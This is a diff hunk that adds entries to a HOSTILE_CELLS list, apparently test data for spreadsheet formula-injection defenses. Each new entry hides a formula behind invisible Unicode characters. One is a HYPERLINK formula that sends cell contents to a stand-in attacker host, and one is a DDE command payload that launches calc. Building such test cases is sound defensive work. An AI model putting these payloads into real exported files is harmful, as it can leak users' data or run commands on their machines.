@@ -206,6 +206,14 @@ HOSTILE_CELLS = (
     "﹢1",
     "﹣1",
     "−1+cmd",
+    # what shows nothing before the sign: direction marks, a soft hyphen, fillers, line breaks
+    '\u200e=HYPERLINK("http://attacker.invalid/?"&A1,"bấm")',
+    "\u202e\u2066+SUM(1,2)",
+    "\u00ad-2+3+cmd|' /C calc'!A0",
+    "\u180e\u3164@SUM(A1:A9)",
+    "\n=1+1",
+    "\x0b\x0c=1+1",
+    "\u2028＝1+1",
 )
 
 
